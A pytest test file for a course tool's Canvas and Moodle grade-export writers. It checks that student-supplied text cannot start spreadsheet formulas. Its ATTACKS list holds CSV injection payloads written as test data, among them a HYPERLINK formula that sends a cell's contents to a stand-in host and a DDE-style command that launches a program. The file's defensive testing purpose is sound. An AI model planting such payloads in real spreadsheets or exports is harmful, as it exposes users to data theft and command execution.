"""Grades for Canvas and Moodle in their import formats, and CSV cells that no spreadsheet runs."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from labs.instructor.lms_export import (
    CANVAS_COLUMNS,
    FORMULA_STARTS,
    MOODLE_COLUMNS,
    GradeRow,
    Number,
    moodle_identifier,
    moodle_time,
    safe_cell,
    write_canvas_gradebook,
    write_csv,
    write_moodle_worksheet,
)

ADA = GradeRow("1001", "Lovelace, Ada", "S1815", "ada.lovelace", "ada@example.org", "Lab group A",
               score=45.0, max_score=60.0, late="", status="")
BOB = GradeRow("1002", "Bob Babbage", "S1791", "bob", "bob@example.org", "Lab group B", score=None, max_score=60.0)
GRADED_AT = dt.datetime(2026, 12, 2, 7, 40, tzinfo=dt.timezone.utc)

ATTACKS = [
    "Eve;=1+2;@SUM(40+2)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1+1",
    "@x",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\uff1d1+2",  # full-width equals
    "\ufe62cmd",  # small plus
    '  "=1+2"',
    "\u200b=1+2",  # a zero-width space before it
    "Mallory,=cmd|' /C calc'!A0",
    "Trudy|@SUM(1)",
    "Oscar\t+1",
]


def read_back(path) -> tuple[str, list[list[str]]]:
    raw = path.read_bytes()
    text = raw.decode("utf-8-sig")
    return text, list(csv.reader(io.StringIO(text, newline="")))


def skip_to_content(text: str) -> str:
    """What a spreadsheet sees first: leading whitespace, invisible characters and quotes passed."""
    return text.lstrip(" \t\r\n\u00a0\u3000\u200b\ufeff\"'")


def guarded(fragment: str) -> bool:
    """Text to a spreadsheet: it starts with the apostrophe, or nothing in it can start a formula."""
    return fragment[:1] == "'" or skip_to_content(fragment)[:1] not in FORMULA_STARTS


def assert_inert(cell: str, where: str) -> None:
    """No fragment of the cell, split at any separator, can start a formula unless an apostrophe guards it."""
    assert guarded(cell), f"{where}: {cell!r} starts a formula"
    for separator in (",", ";", "\t", "|", "\n", "\r"):
        for fragment in cell.split(separator)[1:]:
            assert guarded(fragment), f"{where}: after {separator!r}, {fragment!r} of {cell!r} starts a formula"


# ---------------------------------------------------------------- the neutraliser


@pytest.mark.parametrize("text, expected", [
    ("=1+2", "'=1+2"),
    ("+1", "'+1"),
    ("-1+1", "'-1+1"),
    ("@x", "'@x"),
    ("\t=1", "'\t'=1"),  # the tab starts a formula, and so does what follows it
    ("\r=1", "'\r'=1"),
    ("\uff1d1+2", "'\uff1d1+2"),
    ('  "=1+2"', '\'  "=1+2"'),
    ("Eve;=1+2;@SUM(40+2)", "Eve;'=1+2;'@SUM(40+2)"),
    ("Doe, Jane", "Doe, Jane"),
    ("ada+lab@example.org", "ada+lab@example.org"),  # a + or @ inside a word is no formula
    ("Jean-Luc Zoë 李", "Jean-Luc Zoë 李"),
    ("", ""),
])
def test_safe_cell(text, expected):
    assert safe_cell(text) == expected


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_attack_is_inert_in_every_split(attack):
    assert_inert(safe_cell(attack), "safe_cell")


def test_nothing_the_student_typed_is_lost():
    for attack in ATTACKS:
        assert safe_cell(attack).replace("'", "") == attack.replace("'", "")


def test_numbers_the_grader_writes_stay_numbers(tmp_path):
    path = tmp_path / "x.csv"
    write_csv(path, ["name", "score"], [["-1", Number(-1.5)], ["Ada", Number(7.5)], ["Bob", Number(85, decimals=2)]])
    _, rows = read_back(path)
    assert rows == [["name", "score"], ["'-1", "-1.5"], ["Ada", "7.5"], ["Bob", "85.00"]]
    with pytest.raises(ValueError, match="finite"):
        str(Number(float("nan")))


def test_every_cell_is_quoted(tmp_path):
    path = tmp_path / "x.csv"
    write_csv(path, ["a", "b"], [["x, y", Number(1)], ["plain", ""]])
    text, _ = read_back(path)
    assert text == '"a","b"\r\n"x, y","1"\r\n"plain",""\r\n'
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # a byte-order mark, for Excel


# ---------------------------------------------------------------- Canvas


def test_canvas_gradebook_columns_points_possible_and_a_row_with_sis_ids(tmp_path):
    path = tmp_path / "canvas.csv"
    write_canvas_gradebook(path, [ADA, BOB], "Lab 2 (123456)", points_possible=10)
    _, rows = read_back(path)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 2 (123456)"]
    assert rows[0][:5] == CANVAS_COLUMNS
    assert rows[1] == ["    Points Possible", "", "", "", "", "10"]
    assert rows[2] == ["Lovelace, Ada", "1001", "S1815", "ada.lovelace", "Lab group A", "7.5"]  # 45 of 60 is 7.5 of 10
    assert rows[3] == ["Bob Babbage", "1002", "S1791", "bob", "Lab group B", ""]  # not graded: Canvas leaves it alone
    assert len(rows) == 4


def test_canvas_without_the_points_possible_row(tmp_path):
    path = tmp_path / "canvas.csv"
    write_canvas_gradebook(path, [ADA], "Lab 2", points_possible=60, points_possible_row=False)
    _, rows = read_back(path)
    assert rows == [[*CANVAS_COLUMNS, "Lab 2"], ["Lovelace, Ada", "1001", "S1815", "ada.lovelace", "Lab group A", "45"]]


def test_canvas_refuses_what_it_would_misread(tmp_path):
    with pytest.raises(ValueError, match="assignment's name"):
        write_canvas_gradebook(tmp_path / "c.csv", [ADA], "  ", 10)
    with pytest.raises(ValueError, match="positive points possible"):
        write_canvas_gradebook(tmp_path / "c.csv", [ADA], "Lab 2", 0)


# ---------------------------------------------------------------- Moodle


def test_moodle_worksheet_columns_and_a_participant(tmp_path):
    path = tmp_path / "moodle.csv"
    late = GradeRow("1001", "Ada Lovelace", email="ada@example.org", score=40.5, max_score=60.0, late="2",
                    feedback="late 1 day 6 h, counted as 2 days: -10% of 60 points = -6 <see syllabus>",
                    submitted_at=dt.datetime(2026, 12, 17, 5, 59, tzinfo=dt.timezone.utc))
    write_moodle_worksheet(path, [late, BOB], max_grade=100, graded_at=GRADED_AT)
    _, rows = read_back(path)
    assert rows[0] == ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum grade",
                       "Grade can be changed", "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
    assert rows[0] == MOODLE_COLUMNS
    assert rows[1] == ["Participant 1001", "Ada Lovelace", "ada@example.org", "Submitted for grading", "67.50", "100.00",
                       "Yes", "Thursday, 17 December 2026, 5:59 AM", "Wednesday, 2 December 2026, 7:40 AM",
                       "late 1 day 6 h, counted as 2 days: -10% of 60 points = -6 &lt;see syllabus&gt;"]
    assert rows[2] == ["Participant 1002", "Bob Babbage", "bob@example.org", "No submission", "", "100.00", "Yes", "-", "-", ""]


def test_moodle_identifiers_and_dates():
    assert moodle_identifier("1001") == "Participant 1001"
    assert moodle_identifier("Participant 1001") == "Participant 1001"
    assert moodle_time(dt.datetime(2026, 12, 2, 0, 5)) == "Wednesday, 2 December 2026, 12:05 AM"
    assert moodle_time(dt.datetime(2026, 12, 2, 12, 0)) == "Wednesday, 2 December 2026, 12:00 PM"
    assert moodle_time(None) == "-"


def test_moodle_refuses_a_row_without_participant_number(tmp_path):
    with pytest.raises(ValueError, match="no participant number"):
        write_moodle_worksheet(tmp_path / "m.csv", [GradeRow("", "Nobody", score=1, max_score=1)], 100)
    with pytest.raises(ValueError, match="positive maximum grade"):
        write_moodle_worksheet(tmp_path / "m.csv", [ADA], 0)


# ---------------------------------------------------------------- the attacks, through the writers


@pytest.mark.parametrize("writer", ["canvas", "moodle"])
def test_hostile_names_and_ids_are_inert_in_the_files(tmp_path, writer):
    rows = [GradeRow(f"{i}{attack}" if i % 2 else "7", attack, sis_id=attack, login=attack, email=attack,
                     section=attack, score=1.0, max_score=2.0, feedback=attack, submitted_at=GRADED_AT)
            for i, attack in enumerate(ATTACKS)]  # with a submission time: no "-", the grader's own, in the file
    path = tmp_path / f"{writer}.csv"
    if writer == "canvas":
        write_canvas_gradebook(path, rows, "=Lab 2", 10)
        numeric = {5}
    else:
        write_moodle_worksheet(path, rows, 100, graded_at=GRADED_AT)
        numeric = {4, 5}
    text, parsed = read_back(path)
    for r, row in enumerate(parsed):
        for c, cell in enumerate(row):
            if r > 0 and c in numeric:
                continue
            assert_inert(cell, f"row {r} column {c}")
    # Opened with the wrong separator, or by a reader that ignores quotes: every fragment is still text.
    for line_number, line in enumerate(text.split("\r\n")):
        for separator in (";", ",", "\t", "|"):
            for fragment in line.split(separator)[1:]:
                assert guarded(fragment.lstrip('"')), f"line {line_number}, split at {separator!r}: {fragment!r}"
    assert "Eve;'=1+2;'@SUM(40+2)" in text  # still readable, just inert
